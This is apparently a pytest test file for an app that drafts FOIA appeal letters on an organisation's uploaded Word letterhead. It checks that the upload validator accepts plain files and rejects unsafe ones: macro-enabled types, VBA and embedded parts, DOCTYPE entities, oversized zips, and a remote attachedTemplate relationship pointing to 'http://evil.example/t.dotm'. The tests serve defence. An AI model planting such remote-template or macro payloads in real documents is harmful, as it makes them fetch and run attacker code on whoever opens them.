"""An organisation's own sheet: what is taken, and what is not."""

import io
import zipfile

import docx
import pytest

from gaps.models import Letterhead
from gaps.services.appeal_files import version_write
from gaps.services.appeals import appeal_draft
from gaps.services.letterheads import (
    LARGEST,
    LetterheadError,
    letterhead_add,
    letterhead_in_use,
    reference_check,
)
from tests.appeal_records import finding, request_on_file

pytestmark = pytest.mark.django_db


def sheet(folder, name="own.docx", head="Example Oversight, Inc."):
    made = docx.Document()
    made.styles["Heading 1"].font.name = "Garamond"
    made.sections[0].header.paragraphs[0].text = head
    made.save(str(folder / name))
    return folder / name


def rewritten(path, changes=None, added=None):
    """The document with members changed or added."""
    with zipfile.ZipFile(path) as source:
        members = {each: source.read(each) for each in source.namelist()}
    for name, change in (changes or {}).items():
        members[name] = change(members[name])
    members |= added or {}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, content in members.items():
            made.writestr(name, content)
    path.write_bytes(out.getvalue())
    return path


def test_letters_take_the_sheet_and_drafts_the_words(tmp_path, store):
    foia_request = request_on_file(tmp_path)
    finding(foia_request, "one.pdf")
    letterhead_add(
        organisation="Example & Co.",
        address="1 Main St.\nSpringfield",
        signature="Kim Vale\nAttorney",
        document=sheet(tmp_path),
        file_name="own.docx",
    )
    appeal = appeal_draft(foia_request=foia_request, accept_all=True).appeal
    version = appeal.versions.get()
    parts = version.content["parts"]
    assert parts["letterhead"]["text"] == "Example & Co.\n1 Main St.\nSpringfield"
    assert parts["signature"]["text"] == "Kim Vale\nAttorney"
    (path,) = version_write(version=version, out=tmp_path / "out", only=["letter.docx"])
    made = docx.Document(str(path))
    assert made.styles["Heading 1"].font.name == "Garamond"
    assert made.sections[0].header.paragraphs[0].text == "Example Oversight, Inc."


def test_the_document_is_kept_or_dropped_with_the_next_letterhead(tmp_path, store):
    held = letterhead_add(
        organisation="A", address="", signature="", document=sheet(tmp_path), file_name="own.docx"
    )
    kept = letterhead_add(organisation="B", address="", signature="")
    assert kept.reference == held.reference
    dropped = letterhead_add(organisation="C", address="", signature="", keep_document=False)
    assert dropped.reference is None
    assert letterhead_in_use() == dropped
    assert Letterhead.objects.count() == 3


def test_a_plain_document_is_taken(tmp_path):
    reference_check(sheet(tmp_path))


DOTM = b"application/vnd.ms-word.document.macroEnabled.main+xml"
DOCX = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
OUTSIDE = (
    b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
    b'TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("changes", "added", "told"),
    [
        ({"[Content_Types].xml": lambda old: old.replace(DOCX, DOTM)}, {}, "macros"),
        ({}, {"word/vbaProject.bin": b"x"}, "macros"),
        ({}, {"word/embeddings/a.bin": b"x"}, "embedded"),
        ({"[Content_Types].xml": lambda old: old.replace(DOCX, b"x/y")}, {}, "no Word document"),
        (
            {"word/_rels/document.xml.rels": lambda old: old.replace(b"</Relationships>", OUTSIDE)},
            {},
            "fetches something",
        ),
        ({"word/styles.xml": lambda old: b"<!DOCTYPE x>" + old}, {}, "entities"),
        ({"word/document.xml": lambda old: old[:200]}, {}, "no Word document"),
        ({}, {f"word/{number}.txt": b"x" for number in range(500)}, "more than a letterhead"),
    ],
)
def test_what_acts_fetches_or_breaks_is_not_taken(tmp_path, changes, added, told):
    path = rewritten(sheet(tmp_path), changes, added)
    with pytest.raises(LetterheadError, match=told):
        reference_check(path)


def test_what_is_no_document_or_too_large_is_not_taken(tmp_path):
    path = tmp_path / "a.docx"
    path.write_bytes(b"%PDF-1.4")
    with pytest.raises(LetterheadError, match="no Word document"):
        reference_check(path)
    path.write_bytes(b"x" * (LARGEST + 1))
    with pytest.raises(LetterheadError, match="larger than 5 MB"):
        reference_check(path)
    assert not Letterhead.objects.exists()
